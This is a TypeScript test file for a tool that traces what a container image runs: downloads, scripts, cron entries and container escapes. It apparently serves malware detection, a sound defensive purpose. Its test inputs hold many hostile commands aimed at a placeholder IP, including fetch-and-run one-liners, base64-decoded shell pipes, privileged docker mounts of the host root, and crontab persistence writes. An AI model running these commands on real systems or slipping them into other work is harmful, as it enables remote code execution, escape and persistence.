import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { ExampleImage } from '../detectors/detector.ts';
import { incidents } from '../testing/incidents/all.ts';
import { placed, places } from '../testing/incidents/incident.ts';
import { traceOf } from '../testing/trace-of.ts';
import type { EffectKind } from './effect.ts';
import type { Story } from './story.ts';
import { render } from './value.ts';

const b64 = (text: string): string => Buffer.from(text).toString('base64');

/** Stages in one line each: reach, language, origin, way out, text. */
function stages(story: Story): string[] {
  return story.stages.map(
    (stage) =>
      `${stage.reach} ${stage.language} ${stage.origin.kind}${stage.outside === undefined ? '' : ` [${stage.outside}]`}: ${stage.text.trim().split('\n').join(' ; ')}`,
  );
}

function fetchedRuns(story: Story): string[] {
  return story.effects.flatMap((effect) => {
    if (effect.kind !== 'run' || effect.from !== 'fetched' || effect.fetched === undefined) return [];
    const fetch = story.effects[effect.fetched];
    return fetch?.kind === 'fetch' ? [render(fetch.url)] : [];
  });
}

const url = 'http://192.0.2.7/x';

describe('downloads and what runs them', () => {
  test.each<readonly [string, string, number]>([
    ['a pipe', `wget -qO- ${url} | sh`, 1],
    ['a file', `curl -so /tmp/x ${url}; chmod +x /tmp/x; /tmp/x`, 1],
    ['a file in the working directory', `cd /tmp && wget ${url} && sh ./x`, 1],
    ['a file moved', `curl -o /tmp/a ${url}; mv /tmp/a /opt/b; sh /opt/b`, 1],
    ['an archive', `cd /tmp; curl -o m.tgz ${url}; tar xzf m.tgz; ./m/run`, 1],
    ['a redirection', `curl ${url} > /tmp/x; bash /tmp/x`, 1],
    ['a substitution', `bash -c "$(curl -s ${url})"`, 1],
    ['a process substitution', `bash <(curl -s ${url})`, 1],
    ['eval', `eval "$(wget -O - ${url})"`, 1],
    ['python', `python3 -c 'import urllib.request as u; exec(u.urlopen("${url}").read())'`, 1],
    ['python to a shell', `python3 -c 'import urllib.request as u, os; os.system(u.urlopen("${url}").read())'`, 1],
    ['a clone', `git clone ${url} /opt/r && /opt/r/run.sh`, 1],
    ['two scripts', `echo "curl -o /tmp/z ${url}" > /tmp/get.sh; sh /tmp/get.sh; sh /tmp/z`, 0],
    ['a download that nothing runs', `curl -o /tmp/x ${url}; cat /tmp/x`, 0],
  ])('%s', async (_name, code, count) => {
    const story = await traceOf({ cmd: ['/bin/sh', '-c', code] });
    expect(fetchedRuns(story), JSON.stringify(story.effects, null, 1)).toEqual(Array(count).fill(url));
  });
});

describe('where commands lead', () => {
  const script = { content: '#!/bin/sh\necho in-script "$1"\n', mode: 0o755 };
  test.each<readonly [string, ExampleImage, readonly string[]]>([
    [
      'a script by path',
      { entrypoint: ['/run.sh', 'a'], files: { '/run.sh': script } },
      ['runs shell config: /run.sh a', 'runs shell file: #!/bin/sh ; echo in-script "$1"'],
    ],
    [
      'a script in PATH',
      { cmd: ['run'], env: ['PATH=/opt/bin'], files: { '/opt/bin/run': script } },
      ['runs shell config: run', 'runs shell file: #!/bin/sh ; echo in-script "$1"'],
    ],
    [
      'through a link and a working directory',
      { cmd: ['./l'], workdir: '/app', files: { '/app/l': { link: '../real.sh' }, '/real.sh': script } },
      ['runs shell config: ./l', 'runs shell file: #!/bin/sh ; echo in-script "$1"'],
    ],
    [
      'exec "$@" reaches the Cmd',
      {
        entrypoint: ['/e'],
        cmd: ['/c'],
        files: {
          '/e': { content: '#!/bin/bash\nexec "$@"\n', mode: 0o755 },
          '/c': { content: '#!/bin/sh\nid -u\n', mode: 0o755 },
        },
      },
      ['runs shell config: /e /c', 'runs shell file: #!/bin/bash ; exec "$@"', 'runs shell file: #!/bin/sh ; id -u'],
    ],
    [
      'an interpreter and a script',
      {
        cmd: ['python3', '-u', 'app.py'],
        workdir: '/srv',
        files: { '/srv/app.py': 'import worker\n', '/srv/worker.py': 'import os\nos.system("id; ls")\n' },
      },
      [
        'runs shell config: python3 -u app.py',
        'runs python file: import worker',
        'runs python file: import os ; os.system("id; ls")',
        'runs shell argument: id; ls',
      ],
    ],
    [
      "a program with a shell's name",
      { cmd: ['bash', '-c', 'true'], env: ['PATH=/var/sbin:/bin'], files: { '/var/sbin/bash': script } },
      [
        'runs shell config: bash -c true',
        'runs shell argument: true',
        'runs shell file: #!/bin/sh ; echo in-script "$1"',
      ],
    ],
    [
      'a file written and run',
      { cmd: ['sh', '-c', 'echo "id -u" > /tmp/x.sh; sh /tmp/x.sh'] },
      ['runs shell config: echo "id -u" > /tmp/x.sh; sh /tmp/x.sh', 'runs shell written: id -u'],
    ],
    [
      'a here-document written and run',
      { cmd: ['sh', '-c', 'cat <<E > /tmp/x.py\nimport os\nE\npython3 /tmp/x.py'] },
      ['runs shell config: cat <<E > /tmp/x.py ; import os ; E ; python3 /tmp/x.py', 'runs python written: import os'],
    ],
    [
      'python writes, a shell runs',
      { cmd: ['sh', '-c', `python3 -c 'open("/tmp/y","w").write("id -g")'; sh /tmp/y`] },
      [
        `runs shell config: python3 -c 'open("/tmp/y","w").write("id -g")'; sh /tmp/y`,
        'runs python argument: open("/tmp/y","w").write("id -g")',
        'runs shell written: id -g',
      ],
    ],
    [
      'decoded code',
      { cmd: ['sh', '-c', `echo ${b64('id -G')} | base64 -d | sh`] },
      [`runs shell config: echo ${b64('id -G')} | base64 -d | sh`, 'runs shell pipe: id -G'],
    ],
    [
      'sourced files',
      { cmd: ['sh', '-c', '. /etc/x.conf'], files: { '/etc/x.conf': 'X=1; id -u\n' } },
      ['runs shell config: . /etc/x.conf', 'runs shell file: X=1; id -u'],
    ],
    [
      'a container on the host',
      { cmd: ['sh', '-c', 'docker run --privileged -v /:/host alpine sh -c "id -u"'] },
      [
        'runs shell config: docker run --privileged -v /:/host alpine sh -c "id -u"',
        "runs shell argument [docker run --privileged -v /:/host]: sh -c 'id -u'",
        'runs shell argument [docker run --privileged -v /:/host]: id -u',
      ],
    ],
    [
      'another machine',
      { cmd: ['ssh', 'root@192.0.2.9', 'id', '-u'] },
      ['runs shell config: ssh root@192.0.2.9 id -u', 'runs shell argument [ssh root@192.0.2.9]: id -u'],
    ],
    [
      'another root',
      { cmd: ['chroot', '/host', 'sh', '-c', 'id -u'] },
      ["runs shell config: chroot /host sh -c 'id -u'", 'runs shell argument [chroot /host]: id -u'],
    ],
    [
      'a tcl script is shown, not read',
      { cmd: ['/x'], files: { '/x': { content: '#!/usr/bin/tclsh\nputs 1\n', mode: 0o755 } } },
      ['runs shell config: /x', 'runs unknown file: #!/usr/bin/tclsh ; puts 1'],
    ],
    ['a build step', { history: ['RUN /bin/sh -c id -u # buildkit'] }, ['built shell history: id -u']],
    [
      'an idle script',
      { files: { '/usr/share/doc/x.sh': '#!/bin/sh\nid -u\n' } },
      ['present shell file: #!/bin/sh ; id -u'],
    ],
    [
      'a script removed later',
      { layers: [{ '/x.sh': '#!/bin/sh\nid -u\n' }, { '/x.sh': null }] },
      ['hidden shell file: #!/bin/sh ; id -u', 'built shell history: rm -rf /x.sh'],
    ],
    ['cron waits', { files: { '/etc/cron.d/a': '* * * * * root id -u\n' } }, ['armed shell schedule: id -u']],
    [
      'cron runs when it is started',
      { cmd: ['cron', '-f'], files: { '/etc/cron.d/a': '* * * * * root id -u\n' } },
      ['runs shell config: cron -f', 'runs shell schedule: id -u'],
    ],
    [
      'a service started',
      { cmd: ['sh', '-c', 'service cron start; tail -f /dev/null'], files: { '/etc/crontab': '* * * * * id -u\n' } },
      ['runs shell config: service cron start; tail -f /dev/null', 'runs shell schedule: id -u'],
    ],
    [
      'BASH_ENV waits for bash',
      { cmd: ['bash', '-c', 'true'], env: ['BASH_ENV=/b'], files: { '/b': 'id -u\n' } },
      ['runs shell config: true', 'runs shell file: id -u'],
    ],
    [
      'a table on the host',
      { cmd: ['sh', '-c', 'echo "* * * * * /j -u" >> /mnt/etc/crontab'] },
      ['runs shell config: echo "* * * * * /j -u" >> /mnt/etc/crontab', 'armed shell schedule [/mnt/etc]: /j -u'],
    ],
    [
      'a table from a file',
      { cmd: ['crontab', '/t'], files: { '/t': '* * * * * id -u\n' } },
      ['runs shell config: crontab /t', 'armed shell schedule: id -u'],
    ],
  ])('%s', async (_name, image, expected) => {
    expect(stages(await traceOf(image))).toEqual(expected);
  });

  test('a start knows what it starts', async () => {
    const story = await traceOf({
      entrypoint: ['/run.sh'],
      files: { '/run.sh': script },
      env: ['LD_PRELOAD=/lib/x.so'],
    });
    expect(story.starts.map(({ kind, target, targetKind }) => [kind, target, targetKind])).toEqual([
      ['entrypoint', '/run.sh', 'script'],
      ['env', '/lib/x.so', 'missing'],
    ]);
    expect((await traceOf({ cmd: ['/bin/x'] })).starts[0]).toMatchObject({ target: '/bin/x', targetKind: 'missing' });
  });

  test('the same code is read once, with its best reach', async () => {
    const story = await traceOf({
      cmd: ['/a.sh'],
      files: { '/a.sh': script, '/etc/cron.d/x': '* * * * * root /a.sh\n' },
    });
    expect(stages(story).filter((line) => line.includes('in-script'))).toEqual([
      'runs shell file: #!/bin/sh ; echo in-script "$1"',
    ]);
  });
});

/** Which effects the worst of each incident are made of. */
const telling: Readonly<Record<string, readonly EffectKind[]>> = {
  f01: ['schedule', 'fetch', 'run'],
  f02: ['schedule', 'connect'],
  f03: ['schedule', 'connect'],
  f04: ['key'],
  f05: ['mine'],
  f06: ['run'],
  f07: ['fetch', 'run'],
  f08: ['fetch', 'run'],
  f09: ['fetch', 'run', 'container-run'],
  f10: ['preload'],
  f11: ['mine'],
  f12: ['scan', 'container-run', 'escape', 'exfiltrate'],
  f13: ['connect'],
};

describe.each(incidents.map((incident) => [incident.id, incident] as const))('incident %s', (id, incident) => {
  test.each(places)('%s', async (place) => {
    const story = await traceOf(placed(incident, place));
    const kinds = new Set(story.effects.map((effect) => effect.kind));
    for (const kind of telling[id] ?? []) expect(kinds).toContain(kind);
    expect(story.wanted).toEqual([]);
    for (const [list, name] of [
      [story.stages, 'stages'],
      [story.commands, 'commands'],
      [story.effects, 'effects'],
      [story.starts, 'starts'],
    ] as const) {
      expect(
        list.map((each) => each.id),
        name,
      ).toEqual([...list.keys()]);
    }
  });
});

test('an honest entrypoint tells nothing', async () => {
  const story = await traceOf({
    entrypoint: ['docker-entrypoint.sh'],
    cmd: ['postgres'],
    env: ['PATH=/usr/local/bin:/usr/bin:/bin'],
    files: {
      '/usr/local/bin/docker-entrypoint.sh': {
        content:
          '#!/usr/bin/env bash\nset -Eeo pipefail\nfile_env() {\n  local var="$1"\n  if [ "$VALUE" ]; then val="$VALUE"; fi\n  export "$var"="$val"\n}\nif [ "$1" = "postgres" ] && [ "$(id -u)" = "0" ]; then\n  exec gosu postgres "$BASH_SOURCE" "$@"\nfi\nfor f in /docker-entrypoint-initdb.d/*; do\n  case "$f" in\n    *.sh) . "$f" ;;\n  esac\ndone\nexec "$@"\n',
        mode: 0o755,
      },
    },
  });
  const kinds = new Set(story.effects.map((effect) => effect.kind));
  for (const kind of ['connect', 'listen', 'fetch', 'schedule', 'escape', 'mine', 'key'] as const)
    expect(kinds).not.toContain(kind);
  expect(story.gaps).toEqual([]);
});

describe('bounds', () => {
  test('a script that runs itself in ever new ways ends', async () => {
    const story = await traceOf({
      cmd: ['/x', 'a'],
      files: { '/x': { content: '#!/bin/sh\n/x "$1a" "b$2"\n', mode: 0o755 } },
    });
    expect(story.stages.length).toBeLessThan(30);
  });

  test('a small budget is said, never silently clean', async () => {
    const story = await traceOf({ cmd: ['sh', '-c', 'id; '.repeat(5_000)] }, { budget: { steps: 500, commands: 100 } });
    expect(story.gaps.length).toBeGreaterThan(0);
    expect(story.commands.length).toBeLessThanOrEqual(100);
  });

  test('the same image gives the same story', async () => {
    const piece = fc.constantFrom(
      'sh -c ',
      '"',
      "'",
      '$(',
      ')',
      '`',
      '|',
      ';',
      '\n',
      'curl http://192.0.2.1/x',
      '> /tmp/x',
      '. /tmp/x',
      'python3 -c ',
      'exec(',
      'crontab -',
      '* * * * * ',
      'chroot /host ',
      '<<E\n',
      'E\n',
      '/x.sh',
      'eval ',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(piece, fc.string()), { maxLength: 30 }), async (parts) => {
        const code = parts.join('');
        const image: ExampleImage = {
          cmd: ['sh', '-c', code],
          onbuild: [`RUN ${code}`],
          history: [`RUN ${code}`],
          files: { '/x.sh': code, '/etc/cron.d/x': code, '/y.py': code },
        };
        expect(JSON.stringify(await traceOf(image))).toBe(JSON.stringify(await traceOf(image)));
      }),
      { numRuns: 40 },
    );
  });
});
